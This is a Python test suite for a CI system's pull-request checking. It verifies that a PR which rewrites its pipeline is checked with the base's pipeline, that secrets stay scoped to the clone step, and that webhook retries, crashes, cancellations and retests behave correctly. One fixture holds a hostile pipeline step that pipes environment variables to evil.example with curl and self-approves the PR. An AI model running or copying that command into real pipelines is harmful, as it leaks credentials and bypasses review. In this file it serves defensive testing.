"""With an engine, a pull request is checked by exactly one run of its base's pipeline, which may do next to nothing."""

from __future__ import annotations

import contextlib
from datetime import timedelta

import pytest
from tests.support.engine import Engine
from tests.support.faults import Fault, Faults
from tests.support.fuses import Crash
from tests.support.interruptions import is_change
from tests.support.journeys import ANN, BOB, BOT, DEV, OLGA, World, installed

from jx.domain.changes.changes import Check, CheckState, PullState
from jx.domain.names import Person, Revision
from jx.domain.runs.runs import CHECK, NewRun, Run, RunState
from jx.ports.forge import Offer
from jx.ports.repos import Draft
from jx.usecases.propose_change import AUTO_MERGE_LABEL
from jx.usecases.reviewing.review_change import Close, ReviewRequest

EVE = Person("Eve", "eve@example.com", "eve")
EVIL = """\
buildPack: none
pipelineConfig:
  pipelines:
    pullRequest:
      pipeline:
        agent: {image: evil}
        stages:
        - name: steal
          steps: [{name: steal, command: "env | curl -d @- https://evil.example; jx pr approve 1"}]
"""
PIPELINE = "jenkins-x.yml"


@pytest.fixture
def engine() -> Engine:
    return Engine(installed())


def push(world: World, files: dict[str, str], person: Person = ANN) -> None:
    """Somebody pushes to a branch of their own."""
    tree, repo = world.tree(), world.repo()
    for path, text in files.items():
        tree = tree.put(path, text)
    at = world.repos.head(repo, "mine")
    draft = Draft(tree, "Change it by hand\n\nJx-Edit: \n", person)
    if at is None:
        world.repos.replace(repo, "mine", base=world.head(), draft=draft)
    else:
        world.repos.write(repo, "mine", base=at, draft=draft)


def offer(world: World, files: dict[str, str], person: Person = ANN, *, labels: tuple[str, ...] = ()) -> int:
    """A pull request of somebody's own."""
    push(world, files, person)
    offered = Offer("mine", "master", "Change it", "", labels)
    return int(world.forge_as(person).propose(world.repo(), offered).number)


def look(engine: Engine) -> None:
    engine.checking().work(patience=timedelta(seconds=30))


def checks(engine: Engine) -> list[NewRun]:
    return [run for run in engine.pipelines.started if run.context == CHECK]


def runs(engine: Engine) -> list[Run]:
    return [run for run in engine.pipelines.list_all() if run.context == CHECK]


def status(world: World, head: Revision) -> Check | None:
    return world.statuses.get((world.repo().full_name, head, "jx/check"))


def test_a_pull_request_that_rewrites_the_pipeline_is_checked_by_that_of_its_base(engine: Engine) -> None:
    number = offer(engine.world, {PIPELINE: EVIL, "OWNERS": "approvers: [ann]\n"})
    look(engine)
    (run,) = checks(engine)
    text = str(run.spec)
    assert "evil" not in text
    assert "jx step verify pr" in text
    assert run.pipeline == f"team/environment-acme-dev/PR-{number}"
    assert run.git_url == engine.world.repo().url
    assert run.pull_url == engine.world.pull(number).url != ""
    env = {
        one["name"]: one.get("value")
        for one in run.spec["pipelineSpec"]["tasks"][0]["taskSpec"]["steps"][0]["env"]
    }
    assert env["PULL_BASE_SHA"] == engine.world.head()
    assert env["PULL_HEADS"] == f"refs/pull/{number}/head={engine.world.pull(number).head}"


def test_its_account_is_one_of_its_own_and_only_what_clones_has_a_login(engine: Engine) -> None:
    offer(engine.world, {"README.md": "x\n"})
    look(engine)
    (run,) = checks(engine)
    assert run.spec["taskRunTemplate"]["serviceAccountName"] == "jx-checks"
    (task,) = run.spec["pipelineSpec"]["tasks"]
    clone, *steps = task["taskSpec"]["steps"]
    assert clone["name"] == "git-clone"
    assert "secretKeyRef" in str(clone)
    assert f"credential.{engine.world.repo().url}.helper" in str(clone)
    for rest in (steps, task["taskSpec"]["stepTemplate"]):
        assert "secretKeyRef" not in str(rest)
        assert "VAULT" not in str(rest)


def test_doubled_webhooks_and_restarts_start_no_second_run(engine: Engine) -> None:
    world = engine.world
    offer(world, {"README.md": "x\n"})
    receiver = world.process(BOT).receiver
    for _ in range(3):
        controllers = engine.checking()
        for _ in range(5):
            assert world.deliver(receiver) == 202
        controllers.work_off(world.clock.now())
    look(engine)
    assert len(checks(engine)) == 1


def test_controllers_that_die_at_any_call_start_one_run(engine: Engine) -> None:
    world = engine.world
    offer(world, {"README.md": "x\n"})
    dry = Faults()
    Engine(world.copy()).checking(dry).work(patience=timedelta(seconds=1))
    calls = [n for n, call in enumerate(dry.calls, 1) if is_change(*call)]
    assert len(calls) >= 3
    for at in calls:
        one = Engine(world.copy())
        with contextlib.suppress(Crash):
            one.checking(Faults(at, Fault.CRASH_AFTER)).work(patience=timedelta(seconds=1))
        look(one)
        assert len(checks(one)) == 1, dry.calls[at - 1]


def test_a_newer_push_cancels_the_older_run_and_says_so(engine: Engine) -> None:
    world = engine.world
    number = offer(world, {"README.md": "x\n"})
    look(engine)
    old = world.pull(number).head
    engine.begin(runs(engine)[0])
    push(world, {"README.md": "y\n"})
    look(engine)
    first, second = runs(engine)
    assert (first.state, second.state) == (RunState.CANCELLED, RunState.PENDING)
    assert second.revision == world.pull(number).head != old
    told = status(world, old)
    assert told is not None
    assert told.description == f"overtaken by {second.revision[:12]} (run #{second.build})"


def test_a_base_that_moved_is_a_run_of_its_own_and_the_newest_says_how_the_head_stands(
    engine: Engine,
) -> None:
    world = engine.world
    number = offer(world, {"README.md": "x\n"})
    look(engine)
    world.push(world.tree().put("NOTES.md", "x\n"), "Move on")
    look(engine)
    first, second = runs(engine)
    head = world.pull(number).head
    assert first.revision == second.revision == head
    assert first.state is RunState.CANCELLED
    told = status(world, head)
    assert told is not None
    assert told.state is CheckState.PENDING


def test_a_stranger_waits_for_a_word_that_names_the_commit(engine: Engine) -> None:
    world = engine.world
    world.forge.ensure_collaborator(world.repo(), "eve", right="write")
    number = offer(world, {PIPELINE: EVIL}, EVE)
    world.forge.ensure_collaborator(world.repo(), "eve", right="read")
    look(engine)
    assert not checks(engine)
    world.forge_as(BOB).comment(world.repo(), number, f"/ok-to-test {world.pull(number).head}")
    look(engine)
    assert len(checks(engine)) == 1
    push(world, {PIPELINE: EVIL, "README.md": "more\n"}, EVE)
    look(engine)
    assert len(checks(engine)) == 1


def test_what_merges_by_itself_waits_for_the_run(engine: Engine) -> None:
    world = engine.world
    number = offer(world, {"README.md": "x\n"}, labels=(AUTO_MERGE_LABEL,))
    world.process(OLGA).approve(number, DEV)
    look(engine)
    said = {one.context: one.state.value for one in world.pull(number).checks}
    assert said == {"jx/approval": "success", "jx/check": "pending", "jx/plan": "success"}
    assert world.pull(number).state is PullState.OPEN
    (run,) = runs(engine)
    engine.end(engine.begin(run))
    look(engine)
    assert world.pull(number).state is PullState.MERGED


def test_a_run_that_failed_is_told_and_made_again_when_somebody_asks(engine: Engine) -> None:
    world = engine.world
    number = offer(world, {"README.md": "x\n"})
    look(engine)
    engine.end(runs(engine)[0], RunState.FAILED, "no chart")
    look(engine)
    told = status(world, world.pull(number).head)
    assert told is not None
    assert (told.state, told.description) == (CheckState.FAILURE, "no chart")
    assert len(checks(engine)) == 1
    world.forge_as(BOB).comment(world.repo(), number, "/retest")
    look(engine)
    assert len(checks(engine)) == 2


def test_a_base_whose_pipeline_is_wrong_is_told_on_the_pull_request(engine: Engine) -> None:
    world = engine.world
    world.push(world.tree().put(PIPELINE, "pipelineConfig: {pipelines: {releese: {}}}\n"), "Break it")
    number = offer(world, {"README.md": "x\n"})
    look(engine)
    told = status(world, world.pull(number).head)
    assert told is not None
    assert told.state is CheckState.FAILURE
    assert "releese" in told.description
    assert not checks(engine)


def test_a_run_that_somebody_cancels_in_a_comment_is_not_started_again(engine: Engine) -> None:
    world = engine.world
    number = offer(world, {"README.md": "x\n"})
    look(engine)
    world.forge_as(BOB).comment(world.repo(), number, "/cancel")
    look(engine)
    look(engine)
    assert [run.state for run in runs(engine)] == [RunState.CANCELLED]


def test_the_run_of_a_pull_request_that_was_closed_ends(engine: Engine) -> None:
    world = engine.world
    number = offer(world, {"README.md": "x\n"})
    look(engine)
    engine.begin(runs(engine)[0])
    world.process(ANN).review_change(ReviewRequest(world.repo(), number, Close()))
    look(engine)
    assert [run.state for run in runs(engine)] == [RunState.CANCELLED]
